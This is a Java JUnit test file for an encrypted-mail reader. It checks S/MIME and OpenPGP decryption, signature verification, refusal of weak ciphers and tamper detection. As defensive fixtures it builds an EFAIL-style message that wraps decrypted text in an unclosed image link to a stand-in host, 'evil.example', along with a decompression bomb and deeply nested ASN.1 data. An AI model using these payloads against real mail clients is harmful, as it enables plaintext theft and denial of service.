package sportello.mime;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.security.cert.TrustAnchor;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashSet;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.function.LongPredicate;
import java.util.function.Predicate;
import org.bouncycastle.asn1.ASN1ObjectIdentifier;
import org.bouncycastle.bcpg.SymmetricKeyAlgorithmTags;
import org.bouncycastle.cert.X509CertificateHolder;
import org.bouncycastle.cms.CMSAlgorithm;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import sportello.mime.Encryption.Fate;
import sportello.mime.Encryption.Kind;
import sportello.mime.Locksmith.Seal;

/**
 * What is encrypted for the house is opened once and read as if it had come so; what could harm whoever reads it is not
 * (attack row X33).
 */
class EncryptedMailTest {
    private static final Instant FROM = TestMail.TODAY.minus(Duration.ofDays(365));
    private static final Instant UNTIL = TestMail.TODAY.plus(Duration.ofDays(365));
    private static final String SAID = "Il contatore è fermo.";
    private static final String TEXT =
            "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + SAID + "\r\n";

    private static Locksmith house;
    private static Locksmith stranger;
    private static Locksmith curve;
    private static Authority authority;
    private static Authority.Person giulia;

    @BeforeAll
    static void everybody_has_keys() {
        house = Locksmith.of("assistenza@valleservizi.example", FROM, UNTIL);
        stranger = Locksmith.of("chi@altrove.example", FROM, UNTIL);
        curve = Locksmith.onCurve("assistenza@valleservizi.example", FROM, UNTIL);
        authority = new Authority("Autorità di prova");
        giulia = authority.person("Giulia Moretti", "giulia@roccalba.example", FROM, UNTIL);
    }

    @Test
    void what_smime_encrypts_is_read_as_if_it_had_come_so() {
        for (var sealed : List.of(house.sealed(TEXT), house.authenticated(TEXT.getBytes(UTF_8)))) {
            var mail = read(smime(sealed));
            assertThat(mail.text()).isEqualTo(SAID);
            assertThat(mail.files()).isEmpty();
            assertThat(mail.encryption()).isEqualTo(new Encryption(Kind.SMIME, Fate.OPENED, "AES-256", "smime"));
        }
    }

    @Test
    void keys_on_curves_agree_on_one() {
        assertThat(read(curve.keys(), smime(curve.sealed(TEXT))).text()).isEqualTo(SAID);
        assertThat(read(curve.keys(), smime(curve.authenticated(TEXT.getBytes(UTF_8))))
                        .text())
                .isEqualTo(SAID);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "application/x-pkcs7-mime; smime-type=enveloped-data",
                "application/pkcs7-mime; name=smime.p7m",
                "application/pkcs7-mime; smime-type=signed-data",
                "application/octet-stream; name=\"posta.P7M\""
            })
    void what_it_is_its_bytes_say(String type) {
        assertThat(read(smime(house.sealed(TEXT)).replace("application/pkcs7-mime; smime-type=enveloped-data", type))
                        .text())
                .isEqualTo(SAID);
    }

    @Test
    void what_openpgp_encrypts_is_read_as_if_it_had_come_so() {
        for (var message : List.of(
                house.pgp(TEXT),
                house.pgp(TEXT.getBytes(UTF_8), SymmetricKeyAlgorithmTags.AES_128, Seal.AUTHENTICATED))) {
            var mail = read(pgp(message));
            assertThat(mail.text()).isEqualTo(SAID);
            assertThat(mail.files()).isEmpty();
            assertThat(encryption(mail).kind()).isEqualTo(Kind.OPENPGP);
            assertThat(encryption(mail).fate()).isEqualTo(Fate.OPENED);
        }
    }

    @Test
    void a_server_that_calls_it_mixed_hides_nothing() {
        var mail = read(pgp(house.pgp(TEXT))
                .replace("multipart/encrypted; protocol=\"application/pgp-encrypted\"", "multipart/mixed")
                .replace(
                        "--chiuso\r\nContent-Type: application/pgp-e",
                        "--chiuso\r\n\r\n \r\n--chiuso\r\nContent-Type: application/pgp-e"));
        assertThat(mail.text()).isEqualTo(SAID);
        assertThat(mail.files()).isEmpty();
    }

    @Test
    void an_armoured_text_is_read_and_what_stands_around_it_becomes_a_file() {
        var alone = read(from() + "\r\n" + house.pgp(SAID));
        assertThat(alone.text()).isEqualTo(SAID);
        assertThat(alone.files()).isEmpty();

        var among = read(from() + "\r\nRimborsate subito 500 euro:\r\n\r\n" + house.pgp(SAID) + "\r\nGrazie\r\n");
        assertThat(among.text()).isEqualTo(SAID);
        assertThat(among.files()).extracting(MailFile::name).containsExactly("testo.txt");
    }

    @Test
    void an_armoured_text_never_speaks_as_a_mail() {
        var html = "Content-Type: text/html\r\n\r\n<b>Ciao</b>";
        var mail = read(from() + "\r\n" + house.pgp(html));
        assertThat(mail.html()).isNull();
        assertThat(mail.text()).contains("Content-Type: text/html");
    }

    @Test
    void what_is_within_comes_with_its_files_and_its_subject() {
        var within =
                "Content-Type: multipart/mixed; boundary=dentro; protected-headers=\"v1\"\r\nSubject: Disdetta\r\n\r\n"
                        + "--dentro\r\n" + TEXT
                        + "--dentro\r\nContent-Type: application/pdf; name=bolletta.pdf\r\n\r\n%PDF\r\n--dentro--\r\n";
        for (var mail : List.of(read(pgp(house.pgp(within))), read(smime(house.sealed(within))))) {
            assertThat(mail.subject()).as("goes out in the clear").isEqualTo("...");
            assertThat(mail.text()).isEqualTo("Oggetto: Disdetta\n\n" + SAID);
            assertThat(mail.files()).extracting(MailFile::name).containsExactly("bolletta.pdf");
        }
    }

    @Test
    void a_signature_within_is_checked() {
        for (var signed : List.of(signed(giulia.sign(TEXT)), packed(giulia.pack(TEXT)))) {
            for (var mail : List.of(smime(house.sealed(signed)), pgp(house.pgp(signed)))) {
                assertThat(read(mail).text()).isEqualTo(SAID);
                assertThat(verdict(read(mail))).isEqualTo(SignatureCheck.Verdict.VALID);
                assertThat(verdict(read(mail.replace("From: giulia@", "From: paolo@"))))
                        .isEqualTo(SignatureCheck.Verdict.OTHER_SENDER);
            }
        }
        var changed = signed(giulia.sign(TEXT)).replace("fermo", "rotto");
        assertThat(verdict(read(smime(house.sealed(changed))))).isEqualTo(SignatureCheck.Verdict.INVALID);
    }

    @Test
    void a_signature_around_what_is_encrypted_is_checked_too() {
        var mail = from() + packed(giulia.pack(head(house.sealed(TEXT))));
        assertThat(read(mail).text()).isEqualTo(SAID);
        assertThat(verdict(read(mail))).isEqualTo(SignatureCheck.Verdict.VALID);
    }

    @Test
    void a_signature_within_says_nothing_of_what_was_put_around_it() {
        var mail = read(mixed(head(house.sealed(signed(giulia.sign(TEXT))))));
        assertThat(mail.text()).isEqualTo(SAID);
        assertThat(mail.signature()).isNull();
    }

    /** EFAIL: what is decrypted would be part of an address that the reader's program fetches. */
    @ParameterizedTest
    @ValueSource(booleans = {true, false})
    void nothing_in_the_clear_is_read_beside_it(boolean smime) {
        var sealed = smime ? head(house.sealed(TEXT)) : pgp(house.pgp(TEXT)).substring(from().length());
        var mail = read(mixed(sealed));
        assertThat(mail.text()).isEqualTo(SAID);
        assertThat(mail.html()).isNull();
        assertThat(mail.files())
                .extracting(MailFile::mediaType)
                .containsExactly("text/html", "text/html", "text/plain");
        assertThat(mail.files()).noneMatch(MailFile::inline);
    }

    @Test
    void of_alternatives_only_the_encrypted_one_is_read() {
        var mail = read(mixed(head(house.sealed(TEXT))).replace("multipart/mixed", "multipart/alternative"));
        assertThat(mail.text()).isEqualTo(SAID);
        assertThat(mail.html()).isNull();
    }

    @Test
    void without_a_key_that_fits_the_file_is_left_and_that_is_said() {
        for (var raw : List.of(smime(stranger.sealed(TEXT)), smime(curve.sealed(TEXT)), pgp(stranger.pgp(TEXT)))) {
            var mail = read(raw);
            assertThat(encryption(mail).fate()).isEqualTo(Fate.NO_KEY);
            assertThat(mail.text()).isEmpty();
            assertThat(mail.files()).isNotEmpty();
        }
    }

    @ParameterizedTest
    @CsvSource({"1.2.840.113549.3.7, 3DES", "1.2.840.113549.3.2, RC2", "1.3.14.3.2.7, DES", "1.2.840.113533.7.66.10, ''"
    })
    void what_smime_does_not_protect_today_is_refused(String algorithm, String called) {
        var mail = read(smime(house.sealed(TEXT.getBytes(UTF_8), new ASN1ObjectIdentifier(algorithm))));
        assertThat(mail.encryption()).isEqualTo(new Encryption(Kind.SMIME, Fate.REFUSED, called, null));
        assertThat(mail.text()).isEmpty();
        assertThat(mail.files()).hasSize(1);
    }

    @Test
    void authentication_cannot_be_taken_off_by_another_name() {
        var gcm = smime(house.sealed(TEXT.getBytes(UTF_8), CMSAlgorithm.AES256_GCM));
        assertThat(encryption(read(gcm)).fate()).isEqualTo(Fate.REFUSED);
    }

    @ParameterizedTest
    @CsvSource({"2, 3DES", "3, CAST5", "4, Blowfish", "1, IDEA"})
    void what_openpgp_does_not_protect_today_is_refused(int algorithm, String called) {
        var mail = read(pgp(house.pgp(TEXT.getBytes(UTF_8), algorithm, Seal.WHOLE)));
        assertThat(mail.encryption()).isEqualTo(new Encryption(Kind.OPENPGP, Fate.REFUSED, called, null));
        assertThat(mail.text()).isEmpty();
    }

    @Test
    void what_would_not_show_a_change_is_refused() {
        var mail = read(pgp(house.pgp(TEXT.getBytes(UTF_8), SymmetricKeyAlgorithmTags.AES_256, Seal.NONE)));
        assertThat(encryption(mail).fate()).isEqualTo(Fate.UNPROTECTED);
        assertThat(mail.text()).isEmpty();
    }

    @Test
    void what_was_changed_or_cut_off_is_not_read() {
        for (var seal : List.of(Seal.WHOLE, Seal.AUTHENTICATED)) {
            var raw = house.raw(TEXT.getBytes(UTF_8), SymmetricKeyAlgorithmTags.AES_256, seal);
            for (var bad : List.of(changed(raw, 30), changed(raw, 1), Arrays.copyOf(raw, raw.length - 40)))
                damaged(pgp(base64(bad))
                        .replace(
                                "Content-Type: application/octet-stream\r\n",
                                "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"));
        }
        var gcm = house.authenticated(TEXT.getBytes(UTF_8));
        damaged(smime(Arrays.copyOf(gcm, gcm.length - 20)));
        var cbc = house.sealed(TEXT);
        for (var bad : List.of(Arrays.copyOf(cbc, cbc.length - 10), Arrays.copyOf(cbc, cbc.length / 2), new byte[] {1}))
            damaged(smime(bad));
    }

    /** Some bytes only say where something ends. */
    @Test
    void no_changed_byte_changes_what_is_read() {
        var gcm = curve.authenticated(TEXT.getBytes(UTF_8));
        var keys = curve.keys();
        var fates = new HashSet<Fate>();
        for (var at = 1; at < TEXT.length() + 40; at++) {
            var mail = read(keys, smime(changed(gcm, at)));
            fates.add(encryption(mail).fate());
            if (encryption(mail).fate() == Fate.OPENED)
                assertThat(mail.text()).as("byte %d", at).isEqualTo(SAID);
        }
        assertThat(fates).contains(Fate.DAMAGED);
    }

    private static void damaged(String raw) {
        var mail = read(raw);
        assertThat(encryption(mail).fate()).isEqualTo(Fate.DAMAGED);
        assertThat(mail.text()).isEmpty();
        assertThat(mail.files()).isNotEmpty();
    }

    @Test
    void what_is_packed_counts_with_its_full_size() {
        var bomb = new byte[65 << 20];
        Arrays.fill(bomb, (byte) '\n');
        var packed =
                "Content-Type: application/pkcs7-mime; smime-type=compressed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                        + base64(Locksmith.compressed(bomb));
        assertThat(reason(smime(house.sealed(packed)))).isEqualTo("too_large");
        assertThat(reason(pgp(house.pgp(bomb, SymmetricKeyAlgorithmTags.AES_256, Seal.WHOLE))))
                .isEqualTo("too_large");
    }

    @Test
    void what_is_packed_and_encrypted_is_unpacked() {
        var packed =
                "Content-Type: application/pkcs7-mime; smime-type=compressed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                        + base64(Locksmith.compressed(TEXT.getBytes(UTF_8)));
        assertThat(read(smime(house.sealed(packed))).text()).isEqualTo(SAID);
    }

    @Test
    void structures_without_a_bottom_come_to_an_end() {
        var deep = new byte[200_000];
        for (var at = 0; at < deep.length; at++) deep[at] = (byte) (at % 2 == 0 ? 0x30 : 0x80);
        damaged(smime(deep));
        damaged(pgp(base64(deep)));
    }

    @Test
    void that_the_keys_cannot_be_had_is_no_mails_fault() {
        var away = new MailKeys() {
            @Override
            public Set<TrustAnchor> pecAuthorities() {
                return Set.of();
            }

            @Override
            public List<MailKey.Smime> smime(Predicate<X509CertificateHolder> fits) {
                throw new IllegalStateException("away");
            }

            @Override
            public List<MailKey.OpenPgp> openPgp(LongPredicate fits) {
                throw new IllegalStateException("away");
            }

            @Override
            public List<KnownPgpKey> known(long number) {
                return List.of();
            }
        };
        for (var mail : List.of(smime(house.sealed(TEXT)), pgp(house.pgp(TEXT))))
            assertThatThrownBy(() -> read(away, mail)).isInstanceOf(UncheckedIOException.class);
    }

    @Test
    void what_is_within_can_be_had_as_it_came() throws IOException {
        var within =
                "Content-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERg==\r\n";
        var reading = TestMail.read(
                signers(), house.keys(), smime(house.sealed(within)).getBytes(UTF_8));
        try (var mail = ((Reading.Readable) reading).mail();
                var bytes = mail.files().getFirst().open()) {
            assertThat(new String(bytes.readAllBytes(), US_ASCII)).isEqualTo("%PDF");
        }
    }

    private static byte[] changed(byte[] raw, int fromEnd) {
        var bad = raw.clone();
        bad[bad.length - fromEnd] ^= 1;
        return bad;
    }

    private static String from() {
        return "From: giulia@roccalba.example\r\nSubject: ...\r\n";
    }

    private static String smime(byte[] sealed) {
        return from() + head(sealed);
    }

    private static String head(byte[] sealed) {
        return "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                + base64(sealed) + "\r\n";
    }

    private static String pgp(String message) {
        return from()
                + "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=chiuso\r\n\r\n"
                + "--chiuso\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
                + "--chiuso\r\nContent-Type: application/octet-stream\r\n\r\n" + message + "\r\n--chiuso--\r\n";
    }

    private static String mixed(String sealed) {
        return from() + "Content-Type: multipart/mixed; boundary=fuori\r\n\r\n"
                + "--fuori\r\nContent-Type: text/html\r\n\r\n<img src=\"https://evil.example/\r\n"
                + "--fuori\r\n" + sealed
                + "--fuori\r\nContent-Type: text/html\r\n\r\n\">\r\n"
                + "--fuori\r\nContent-Type: text/plain\r\n\r\nRimborsate 500 euro.\r\n--fuori--\r\n";
    }

    private static String signed(byte[] signature) {
        return "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=firma\r\n\r\n--firma\r\n"
                + TEXT + "\r\n--firma\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n" + base64(signature) + "\r\n--firma--\r\n";
    }

    private static String packed(byte[] signed) {
        return "Content-Type: application/pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                + base64(signed);
    }

    private static String base64(byte[] bytes) {
        return new String(Base64.getMimeEncoder().encode(bytes), US_ASCII);
    }

    private static Encryption encryption(ReadMail mail) {
        return Objects.requireNonNull(mail.encryption());
    }

    private static SignatureCheck.Verdict verdict(ReadMail mail) {
        return Objects.requireNonNull(mail.signature()).verdict();
    }

    private static Signers signers() {
        return new Signers(TestMail.CLOCK, () -> Set.of(new TrustAnchor(authority.certificate(), null)));
    }

    private static String reason(String mail) {
        return ((Reading.Unreadable) TestMail.read(signers(), house.keys(), mail.getBytes(UTF_8))).reason();
    }

    private static ReadMail read(String mail) {
        return read(house.keys(), mail);
    }

    private static ReadMail read(MailKeys keys, String mail) {
        var reading = TestMail.read(signers(), keys, mail.getBytes(UTF_8));
        if (!(reading instanceof Reading.Readable yes)) throw new AssertionError(reading.toString());
        yes.mail().close();
        return yes.mail();
    }
}
